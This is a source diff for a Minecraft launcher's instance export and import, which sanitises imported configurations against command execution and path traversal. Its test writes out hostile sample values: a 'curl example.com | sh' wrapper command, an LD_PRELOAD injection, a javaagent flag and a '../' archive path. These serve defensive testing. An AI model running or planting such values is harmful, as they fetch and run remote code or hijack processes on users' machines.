@@ -0,0 +1,303 @@
+use std::{io::{BufWriter, Write}, path::{Path, PathBuf}, sync::Arc};
+
+use bridge::{
+    instance::InstanceID, message::InstanceExportFolder, modal_action::{ModalAction, ProgressTracker, ProgressTrackerFinishType}, safe_path::SafePath
+};
+use enumset::EnumSet;
+use rc_zip_sync::{rc_zip::EntryKind, ReadZip};
+use schema::instance::InstanceConfiguration;
+use ustr::Ustr;
+
+use crate::{BackendState, zip_writer::ZipWriter};
+
+/// Collects the files in `folder` as (path in archive, path on disk). Symlinks are followed so that folders shared
+/// through syncing end up in the archive
+pub(crate) fn collect_files(folder: &Path, prefix: &str, files: &mut Vec<(String, PathBuf)>) -> std::io::Result<()> {
+    let Ok(read_dir) = std::fs::read_dir(folder) else {
+        return Ok(());
+    };
+    for entry in read_dir {
+        let entry = entry?;
+        let name = format!("{prefix}/{}", entry.file_name().to_string_lossy());
+        let path = entry.path();
+        let Ok(metadata) = std::fs::metadata(&path) else {
+            continue;
+        };
+        if metadata.is_dir() {
+            collect_files(&path, &name, files)?;
+        } else if metadata.is_file() {
+            files.push((name, path));
+        }
+    }
+    Ok(())
+}
+
+/// Clears what only makes sense on the machine the archive was written on, and drops the settings that run programs or
+/// change how Java starts, so launching an instance received from someone else can't run anything they chose. Returns
+/// whether any of the dropped settings were set
+pub(crate) fn sanitize_imported_configuration(configuration: &mut InstanceConfiguration) -> bool {
+    configuration.uuid = None;
+    configuration.last_played = None;
+    configuration.game_directory = None;
+    configuration.pack_source = None;
+    configuration.account = None;
+
+    let mut dropped = false;
+    if configuration.jvm_flags.take().is_some_and(|jvm_flags| !jvm_flags.flags.trim().is_empty()) {
+        dropped = true;
+    }
+    if configuration.jvm_binary.take().is_some_and(|jvm_binary| jvm_binary.path.is_some()) {
+        dropped = true;
+    }
+    if configuration.environment.take().is_some_and(|environment| !environment.variables.trim().is_empty()) {
+        dropped = true;
+    }
+    if let Some(linux_wrapper) = &mut configuration.linux_wrapper && !linux_wrapper.custom_command.trim().is_empty() {
+        linux_wrapper.custom_command = "".into();
+        dropped = true;
+    }
+    dropped
+}
+
+impl BackendState {
+    pub async fn export_instance(&self, id: InstanceID, destination: PathBuf, folders: EnumSet<InstanceExportFolder>, modal_action: &ModalAction) {
+        match self.write_instance_archive(id, &destination, folders, modal_action).await {
+            Ok(Some(name)) => self.send.send_success(rust_i18n::t!("notification_instance_exported", name = name, path = destination.display())),
+            Ok(None) => {},
+            Err(error) => modal_action.set_error_message(error),
+        }
+    }
+
+    /// Writes the instance's configuration and the chosen folders of its .minecraft to a zip archive. Returns the name
+    /// of the instance, or None when cancelled
+    pub async fn write_instance_archive(&self, id: InstanceID, destination: &Path, folders: EnumSet<InstanceExportFolder>,
+        modal_action: &ModalAction) -> Result<Option<Ustr>, Arc<str>>
+    {
+        let Some((name, dot_minecraft, mut configuration)) = self.instance_state.write().instances.get_mut(id)
+            .map(|instance| (instance.name, instance.dot_minecraft_path.clone(), instance.configuration.get().clone()))
+        else {
+            return Err("Can't export instance, unknown id".into());
+        };
+        let destination = destination.to_path_buf();
+
+        // The archive always contains the game files, so a custom game directory wouldn't exist on another machine
+        configuration.game_directory = None;
+        // Playtime belongs to whoever played it, not to whoever imports the archive
+        configuration.last_played = None;
+        configuration.uuid = None;
+
+        let tracker = ProgressTracker::new(rust_i18n::t!("progress_exporting", name = name).into(), self.send.clone());
+        modal_action.trackers.push(tracker.clone());
+        tracker.notify();
+
+        let result = {
+            let tracker = tracker.clone();
+            let modal_action = modal_action.clone();
+            tokio::task::spawn_blocking(move || -> std::io::Result<bool> {
+                let mut files = Vec::new();
+                for folder in folders {
+                    let folder_name = folder.folder_name();
+                    collect_files(&dot_minecraft.join(folder_name), &format!(".minecraft/{folder_name}"), &mut files)?;
+                }
+                tracker.set_total(files.len() as u64 + 1);
+                tracker.notify();
+
+                let mut part_path = destination.clone().into_os_string();
+                part_path.push(".part");
+                let part_path = PathBuf::from(part_path);
+                let mut writer = ZipWriter::new(BufWriter::new(std::fs::File::create(&part_path)?));
+
+                let write = || -> std::io::Result<bool> {
+                    writer.add_file("info_v1.json", &serde_json::to_vec_pretty(&configuration)?)?;
+                    tracker.add_count(1);
+                    tracker.notify();
+
+                    for (name, path) in files {
+                        if modal_action.has_requested_cancel() {
+                            return Ok(false);
+                        }
+                        writer.add_file(&name, &std::fs::read(path)?)?;
+                        tracker.add_count(1);
+                        tracker.notify();
+                    }
+
+                    writer.finish()?.flush()?;
+                    Ok(true)
+                };
+
+                match write() {
+                    Ok(true) => {
+                        std::fs::rename(&part_path, &destination)?;
+                        Ok(true)
+                    },
+                    result => {
+                        _ = std::fs::remove_file(&part_path);
+                        result
+                    },
+                }
+            }).await.unwrap()
+        };
+
+        tracker.set_finished(ProgressTrackerFinishType::from_err(!matches!(result, Ok(true))));
+        tracker.notify();
+
+        match result {
+            Ok(true) => Ok(Some(name)),
+            Ok(false) => Ok(None),
+            Err(error) => Err(format!("Unable to export instance: {error}").into()),
+        }
+    }
+
+    /// Creates a new instance from an archive written by `write_instance_archive`
+    pub async fn import_instance_archive(&self, path: &Path, name: &str, modal_action: &ModalAction) {
+        let Some(name) = self.unused_instance_name(name) else {
+            modal_action.set_error_message(format!("Can't import instance, the name '{name}' is already used").into());
+            return;
+        };
+
+        let tracker = ProgressTracker::new(rust_i18n::t!("progress_importing", name = name).into(), self.send.clone());
+        modal_action.trackers.push(tracker.clone());
+        tracker.notify();
+
+        // Work in the temp dir so the instances watcher only sees the finished instance
+        let temp_dir: Arc<Path> = self.directories.temp_dir.join(format!("import-{:016x}", rand::random::<u64>())).into();
+
+        let result = {
+            let path = path.to_path_buf();
+            let temp_dir = temp_dir.clone();
+            let tracker = tracker.clone();
+            let modal_action = modal_action.clone();
+            tokio::task::spawn_blocking(move || -> Result<Option<bool>, String> {
+                let file = std::fs::File::open(&path).map_err(|error| error.to_string())?;
+                let archive = file.read_zip().map_err(|error| error.to_string())?;
+
+                let info = archive.by_name("info_v1.json").ok_or("info_v1.json is missing")?;
+                let info = info.bytes().map_err(|error| error.to_string())?;
+                let mut configuration = serde_json::from_slice::<InstanceConfiguration>(&info)
+                    .map_err(|error| format!("Invalid info_v1.json: {error}"))?;
+                let dropped = sanitize_imported_configuration(&mut configuration);
+
+                std::fs::create_dir_all(&temp_dir).map_err(|error| error.to_string())?;
+                let info = serde_json::to_vec_pretty(&configuration).map_err(|error| error.to_string())?;
+                std::fs::write(temp_dir.join("info_v1.json"), info).map_err(|error| format!("Unable to write info_v1.json: {error}"))?;
+
+                let entries: Vec<_> = archive.entries()
+                    .filter(|entry| entry.kind() == EntryKind::File)
+                    .filter(|entry| entry.name.starts_with(".minecraft/"))
+                    .collect();
+                tracker.set_total(entries.len() as u64);
+                tracker.notify();
+
+                for entry in entries {
+                    if modal_action.has_requested_cancel() {
+                        return Ok(None);
+                    }
+                    let Some(entry_path) = SafePath::new(&entry.name) else {
+                        continue;
+                    };
+                    let destination = entry_path.to_path(&temp_dir);
+                    let write = || -> std::io::Result<()> {
+                        if let Some(parent) = destination.parent() {
+                            std::fs::create_dir_all(parent)?;
+                        }
+                        std::io::copy(&mut entry.reader(), &mut std::fs::File::create(&destination)?)?;
+                        Ok(())
+                    };
+                    write().map_err(|error| format!("Unable to extract {}: {error}", entry.name))?;
+                    tracker.add_count(1);
+                    tracker.notify();
+                }
+                Ok(Some(dropped))
+            }).await.unwrap()
+        };
+
+        tracker.set_finished(ProgressTrackerFinishType::from_err(!matches!(result, Ok(Some(_)))));
+        tracker.notify();
+
+        let dropped = match result {
+            Ok(Some(dropped)) => dropped,
+            Ok(None) => {
+                _ = std::fs::remove_dir_all(&temp_dir);
+                return;
+            },
+            Err(error) => {
+                _ = std::fs::remove_dir_all(&temp_dir);
+                modal_action.set_error_message(format!("Unable to import instance: {error}").into());
+                return;
+            },
+        };
+
+        self.file_watching.write().watch_filesystem(self.directories.instances_dir.clone(), crate::backend::WatchTarget::InstancesDir);
+        if let Err(error) = std::fs::rename(&temp_dir, self.directories.instances_dir.join(&name)) {
+            _ = std::fs::remove_dir_all(&temp_dir);
+            modal_action.set_error_message(format!("Unable to create instance: {error}").into());
+            return;
+        }
+
+        if dropped {
+            self.send.send_warning(rust_i18n::t!("notification_imported_without_commands", name = name));
+        } else {
+            self.send.send_success(rust_i18n::t!("notification_imported", names = name));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Cursor;
+
+    use bridge::message::BridgeNotificationType;
+    use schema::{
+        instance::{InstanceEnvironmentConfiguration, InstanceJvmBinaryConfiguration, InstanceJvmFlagsConfiguration, InstanceLinuxWrapperConfiguration},
+        loader::Loader,
+    };
+
+    use super::*;
+    use crate::test_harness::{TempDir, TestBackend};
+
+    #[test]
+    fn imported_archives_cant_run_commands() {
+        let dir = TempDir::new();
+        let mut backend = TestBackend::load(dir.path());
+        backend.notifications();
+
+        let mut configuration = InstanceConfiguration::new("1.21.1".into(), Loader::Vanilla);
+        configuration.uuid = Some(uuid::Uuid::new_v4());
+        configuration.last_played = Some(1);
+        configuration.game_directory = Some(Path::new("/home/peer/.minecraft").into());
+        configuration.jvm_flags = Some(InstanceJvmFlagsConfiguration { enabled: true, flags: "-javaagent:/tmp/agent.jar".into() });
+        configuration.jvm_binary = Some(InstanceJvmBinaryConfiguration { enabled: true, path: Some(Path::new("/tmp/java").into()), major_version: None });
+        configuration.environment = Some(InstanceEnvironmentConfiguration { enabled: true, variables: "LD_PRELOAD=/tmp/evil.so".into() });
+        configuration.linux_wrapper = Some(InstanceLinuxWrapperConfiguration {
+            custom_command: "sh -c 'curl example.com | sh'".into(),
+            ..Default::default()
+        });
+        configuration.daily_playtime_limit = Some(30);
+
+        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
+        writer.add_file("info_v1.json", &serde_json::to_vec(&configuration).unwrap()).unwrap();
+        writer.add_file(".minecraft/options.txt", b"fov:0.5").unwrap();
+        writer.add_file("../escaped.txt", b"outside").unwrap();
+        let archive = dir.path().join("crafted.zip");
+        std::fs::write(&archive, writer.finish().unwrap().into_inner()).unwrap();
+
+        let modal_action = ModalAction::default();
+        backend.runtime.block_on(backend.state.import_instance_archive(&archive, "Crafted", &modal_action));
+        assert!(modal_action.error.read().unwrap().is_none());
+
+        let instance_dir = dir.path().join("instances").join("Crafted");
+        let imported: InstanceConfiguration = serde_json::from_slice(&std::fs::read(instance_dir.join("info_v1.json")).unwrap()).unwrap();
+        assert_eq!(imported.uuid, None);
+        assert_eq!(imported.last_played, None);
+        assert_eq!(imported.game_directory, None);
+        assert!(imported.jvm_flags.is_none());
+        assert!(imported.jvm_binary.is_none());
+        assert!(imported.environment.is_none());
+        assert!(imported.linux_wrapper.is_none_or(|linux_wrapper| linux_wrapper.custom_command.is_empty()));
+        assert_eq!(imported.daily_playtime_limit, Some(30));
+
+        assert_eq!(std::fs::read(instance_dir.join(".minecraft/options.txt")).unwrap(), b"fov:0.5");
+        assert!(!dir.path().join("instances").join("escaped.txt").exists());
+        assert!(backend.notifications().iter().any(|(notification_type, _)| *notification_type == BridgeNotificationType::Warning));
+    }
+}